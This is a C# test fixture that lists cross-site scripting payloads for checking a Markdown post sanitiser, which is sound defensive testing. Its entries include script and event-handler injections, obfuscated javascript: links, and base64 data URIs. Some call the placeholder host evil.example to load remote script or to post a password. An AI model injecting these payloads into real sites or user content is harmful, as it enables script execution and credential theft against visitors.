namespace Tandem.Api.Tests.Markdown;

/// <summary>Post bodies that try to get script, styles or foreign frames into a page.</summary>
public static class XssPayloads
{
    public static TheoryData<string> All => new(
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "![x](/a.png \"x\" onerror=alert(1))",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](<javascript:alert(1)>)",
        "<javascript:alert(1)>",
        "[click](&#106;avascript:alert(1))",
        "[click](jav&#x09;ascript:alert(1))",
        "[click](vbscript:msgbox(1))",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">click</a>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">click</mi></math>",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<p style=\"width: expression(alert(1))\">x</p>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<style>body { display: none }</style>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<form action=\"https://evil.example\"><input name=password><button>Go</button></form>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<a href=\"https://example.test\" onclick=\"alert(1)\">click</a>",
        "`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |");
}
